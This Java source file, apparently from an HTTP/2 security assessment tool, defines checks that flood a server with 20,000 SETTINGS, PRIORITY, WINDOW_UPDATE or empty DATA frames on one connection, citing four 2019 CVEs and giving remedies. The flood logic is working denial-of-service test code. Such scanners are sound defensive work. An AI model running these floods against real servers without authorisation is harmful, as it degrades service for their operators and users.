package dev.countersign.assessment;

import java.io.IOException;
import java.security.GeneralSecurityException;
import java.util.List;

/** Frames that cost the sender nothing and the receiver a little, in numbers. */
final class ControlFrames extends Abuse {
  private static final int BATCHES = 100;
  private static final int PER_BATCH = 200;

  private final Kind kind;

  private enum Kind {
    SETTINGS(Frame.SETTINGS, 0),
    PRIORITY(Frame.PRIORITY, 5),
    WINDOW_UPDATE(Frame.WINDOW_UPDATE, 4),
    EMPTY_DATA(Frame.DATA, 0);

    private final int type;
    private final int bytes;

    Kind(int type, int bytes) {
      this.type = type;
      this.bytes = bytes;
    }

    /** A dependency on stream 0 with a weight, an increment of 1, or nothing. */
    private byte[] payload() {
      byte[] payload = new byte[bytes];
      if (bytes > 0) {
        payload[bytes - 1] = 1;
      }
      return payload;
    }
  }

  private ControlFrames(String name, Kind kind, String what, String source) {
    super(About.of(name, Group.PROTOCOL, Severity.MEDIUM)
        .tries(BATCHES * PER_BATCH + " " + what + " on one connection.")
        .safe("Others are served meanwhile; whether the connection is ended is up to the server.")
        .source(source)
        .remedy("Keep the work for a frame small and the answers to it bounded; bound the age of"
            + " connections."));
    this.kind = kind;
  }

  static List<Check> all() {
    return List.of(
        new ControlFrames(
            "settings-flood", Kind.SETTINGS, "empty SETTINGS frames", "CVE-2019-9515"),
        new ControlFrames("priority-flood", Kind.PRIORITY, "PRIORITY frames", "CVE-2019-9513"),
        new ControlFrames(
            "window-update-flood", Kind.WINDOW_UPDATE, "WINDOW_UPDATE frames", "CVE-2019-9511"),
        new ControlFrames(
            "empty-data-flood", Kind.EMPTY_DATA, "empty DATA frames of one call", "CVE-2019-9518"));
  }

  @Override
  Outcome misbehave(Attack attack)
      throws IOException, GeneralSecurityException, InterruptedException, CannotRunException {
    try (RawHttp2 connection = attack.connect()) {
      int call = connection.newStream();
      connection.request(call, attack.path());
      int stream = switch (kind) {
        case SETTINGS, WINDOW_UPDATE -> 0;
        case EMPTY_DATA -> call;
        case PRIORITY -> call + 2;
      };
      connection.socket().setSoTimeout(2_000);
      Flood.Ending ending = Flood.of(connection, BATCHES, (to, number) -> {
        for (int i = 0; i < PER_BATCH; i++) {
          to.frame(kind.type, 0, stream, kind.payload());
        }
      });
      return Outcome.passed(ending.isCut() ? ending.how() : "all were taken");
    }
  }
}
